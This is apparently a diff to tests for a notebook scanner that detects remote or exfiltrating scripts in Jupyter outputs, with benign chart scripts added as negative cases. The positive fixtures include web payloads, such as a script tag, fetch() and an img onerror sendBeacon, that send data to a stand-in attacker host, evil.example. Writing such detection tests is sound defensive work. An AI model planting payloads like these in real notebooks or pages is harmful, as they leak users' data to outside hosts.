@@ -66,8 +66,23 @@ def test_ordinary_cells() -> None:
 def test_outputs() -> None:
     script = {"output_type": "display_data", "data": {"text/html": "<script src='//evil.example/x.js'></script>"}}
     loaded = {"output_type": "display_data", "data": {"application/javascript": "fetch('https://evil.example/?' + x)"}}
-    for output in (script, loaded):
+    inline = {"output_type": "display_data", "data": {"text/html": "<script>fetch('//evil.example/' + x)</script>"}}
+    handler = {
+        "output_type": "display_data",
+        "data": {"text/html": "<img src=x onerror=\"navigator.sendBeacon('https://evil.example/', x)\">"},
+    }
+    for output in (script, loaded, inline, handler):
         assert fired(examined(notebook("x", outputs=[output]), "a.ipynb")) == {"notebook-remote-script"}
+
+
+def test_scripts_of_charts_are_silent() -> None:
+    for text in (
+        "<script>window.PlotlyConfig = {MathJaxConfig: 'local'};</script><div>1</div>",
+        "<script>import('https://cdn.jsdelivr.net/npm/x.js')</script>",
+        "<code>fetch('https://api.example/x')</code>",
+    ):
+        output = {"output_type": "display_data", "data": {"text/html": text}}
+        assert fired(examined(notebook("x", outputs=[output]), "a.ipynb")) == set()
 
 
 def test_what_is_no_notebook() -> None:
